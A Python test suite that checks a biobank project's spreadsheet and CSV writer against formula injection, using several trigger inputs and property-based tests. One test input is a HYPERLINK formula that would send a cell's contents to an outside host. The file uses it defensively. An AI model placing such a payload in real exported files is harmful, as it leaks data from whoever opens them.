"""The one writer of spreadsheet and CSV cells (biobank/tabular.py): whatever the text, a
written cell is never a formula; safe text and numbers come back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from biobank import tabular

TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")


def xlsx_round_trip(values, *, write_only: bool = True, verbatim: bool = False) -> list:
    """Write one row, read it back: [(value, data_type, quote_prefix)]."""
    book = openpyxl.Workbook(write_only=write_only)
    ws = book.create_sheet("Sheet") if write_only else book.active
    if write_only:
        ws.append(tabular.xlsx_row(ws, values, verbatim=verbatim))
    else:
        for column, value in enumerate(values, start=1):
            tabular.put(ws, 1, column, value, verbatim=verbatim)
    out = io.BytesIO()
    book.save(out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    cells = [sheet.cell(1, column) for column in range(1, len(values) + 1)]
    return [(c.value, c.data_type, c.quotePrefix) for c in cells]


def csv_round_trip(values) -> list[str]:
    text = tabular.csv_bytes(None, [values]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1, rows  # a line break inside a cell never starts a new row
    return rows[0]


def xml_read(text: str) -> str:
    """What an XML parser gives back for a text: line ends normalised to LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize(
    "text",
    ["=1+1", '=HYPERLINK("http://x/?a="&A2,"x")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
     "\n=1", "＝1", "＋1", "－1", "＠A", "-", "-5 pg/mL", " =1", "\u200b=1", "\x00=1"],
)  # fmt: skip
def test_a_text_that_could_start_a_formula_is_quoted(text):
    assert tabular.safe_cell(text) == "'" + text
    assert tabular.is_risky(text)


@pytest.mark.parametrize("text", ["", "LIM-001", "900", "a=b", "'=1", "#N/A", "é", "SER"])
def test_other_texts_are_left_alone(text):
    assert tabular.safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [None, 0, -5, -2.5, 3.25, True, Decimal("-1.5"), date(2026, 1, 5), datetime(2026, 1, 5, 8)],
)
def test_numbers_booleans_and_dates_stay_what_they_are(value):
    assert tabular.safe_cell(value) == value
    assert type(tabular.safe_cell(value)) is type(value)


def test_numbers_stay_numbers_in_both_files():
    assert csv_round_trip([-5, -2.5, 0, 12]) == ["-5", "-2.5", "0", "12"]
    written = xlsx_round_trip([-5, -2.5, 0, "-5"])
    assert written[:3] == [(-5, "n", False), (-2.5, "n", False), (0, "n", False)]
    assert written[3] == ("'-5", "s", False)  # a text that looks like a number is text


def test_error_codes_and_control_characters_stay_text():
    written = xlsx_round_trip(["#N/A", "#REF!", "a\x00b\x07c", "x\ud800y"])
    assert [value for value, *_ in written] == ["#N/A", "#REF!", "abc", "xy"]
    assert {data_type for _, data_type, _ in written} == {"s"}


def test_a_verbatim_text_keeps_its_code_and_is_marked_as_text():
    for write_only in (True, False):
        written = xlsx_round_trip(["-X1", "=1+1", "ABC"], write_only=write_only, verbatim=True)
        assert written == [("-X1", "s", True), ("=1+1", "s", True), ("ABC", "s", False)]


def test_a_lone_surrogate_does_not_fail_a_csv_file():
    assert csv_round_trip(["a\ud800b"]) == ["a?b"]


printable = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
prefixed = st.builds(lambda lead, rest: lead + rest, st.sampled_from(TRIGGERS), printable)
texts = printable | prefixed
numbers = st.integers(-(10**12), 10**12) | st.floats(
    min_value=-1e12, max_value=1e12, allow_nan=False, allow_infinity=False
)


@settings(max_examples=150)
@given(st.lists(texts | numbers | st.none(), min_size=1, max_size=6))
def test_any_value_written_to_a_workbook_is_never_a_formula(values):
    for write_only in (True, False):
        written = xlsx_round_trip(values, write_only=write_only)
        for original, (value, data_type, _) in zip(values, written, strict=True):
            assert data_type not in ("f", "e")
            if isinstance(original, str):
                clean = tabular.clean_xml(original)
                expected = clean if not tabular.is_risky(clean) else "'" + clean
                assert value == (xml_read(expected) or None)
                assert value is None or not value.lstrip().startswith(TRIGGERS)
            elif original is not None:
                assert value == pytest.approx(original) and data_type == "n"


@settings(max_examples=150)
@given(st.lists(texts | numbers, min_size=1, max_size=6))
def test_any_value_written_to_a_csv_file_is_never_a_formula(values):
    read = csv_round_trip(values)
    for original, cell in zip(values, read, strict=True):
        if isinstance(original, str):
            assert cell == tabular.safe_cell(original)
            if not tabular.is_risky(original):
                assert cell == original  # safe text comes back unchanged
            assert not cell.lstrip().startswith(TRIGGERS)
        else:
            assert float(cell) == pytest.approx(original)
